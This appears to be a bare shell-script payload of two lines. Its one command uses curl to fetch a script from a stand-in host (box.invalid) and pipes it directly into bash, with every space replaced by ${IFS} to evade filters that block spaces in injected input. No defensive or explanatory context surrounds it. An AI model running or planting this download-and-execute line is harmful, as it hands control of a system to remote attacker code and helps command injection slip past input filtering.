#!/bin/sh
curl${IFS}-fsSL${IFS}https://box.invalid/go|bash
